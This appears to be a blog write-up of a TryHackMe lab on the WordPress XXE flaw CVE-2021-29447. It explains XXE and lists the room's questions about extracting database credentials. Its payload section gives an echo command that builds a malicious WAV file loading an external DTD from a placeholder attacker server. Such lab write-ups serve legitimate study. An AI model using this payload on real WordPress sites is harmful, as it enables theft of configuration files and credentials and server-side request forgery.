We covered a wordpress XXE vulnerability CVE-2021-29447 that allows for sensitive files disclosure and server-side request forgery (SSRF). We exploited this WordPress vulnerability bygenerating WAV payload and uploading it to the compromised WordPress website. This was part of TryHackMe WordPress: CVE-2021-29447 Room.OSCP Study Notes

Splunk SIEM Full Course with Practical Scenarios


What is XXE vulnerability

An XML External Entity (XXE) attack is a vulnerability that abuses features of XML parsers/data. It often allows an attacker to interact with any backend or external systems that the application itself can access and can allow the attacker to read the file on that system. They can also cause Denial of Service (DoS) attack or could use XXE to perform Server-Side Request Forgery (SSRF) inducing the web application to make requests to other applications. XXE may even enable port scanning and lead to remote code execution.

WordPress CVE-2021-29447 Impact

  • Arbitrary File Disclosure: The contents of any file on the host’s file system could be retrieved, e.g. wp-config.php which contains sensitive data such as database credentials.
  • Server-Side Request Forgery (SSRF): HTTP requests could be made on behalf of the WordPress installation. Depending on the environment, this can have a serious impact.

Creating ThePayload

You can create a WAV payload using the the commands shown below

nano poc.wav
# create a wav file
echo -en 'RIFF\xb8\x00\x00\x00WAVEiXML\x7b\x00\x00\x00<?xml version="1.0"?><!DOCTYPE ANY[<!ENTITY % remote SYSTEM '"'"'http://YOURSEVERIP:PORT/NAMEEVIL.dtd'"'"'>%remote;%init;%trick;]>\x00' > payload.wav

# paste the payload using echo, change the ip and port to match yours


  • WordPress 5.7 – ‘Media Library’ XML External Entity Injection (XXE) (Authenticated): Exploit-DB
  • WordPress 5.6-5.7 – Authenticated (Author+) XXE (CVE-2021-29447): Github
  • WordPress 5.6-5.7 – Authenticated XXE Within the Media Library Affecting PHP 8: wpscan

Room AnswersBased on the results of #1, what is the name of the database for WordPress?


Based on the results of #1, what are the credentials you found?

example: user:password


Enumerate and identify what is the dbms installed on the server?


Based on the results of #4, whatis the dbms version installed on the server?


Based on the results of #4, what port is the dbms running on?


Compromise the dbms, What is the encrypted password located in the wordpress  users table with id 1??


Based on the results of #7, What is the password in plaint text?


Compromise the machine and locate flag.txt


Video Walkthrough

About the Author

I create cybersecurity notes,digital marketing notesand online courses. I also provide digital marketing consulting including but not limitedto SEO, Google & Meta ads and CRM administration.

View Articles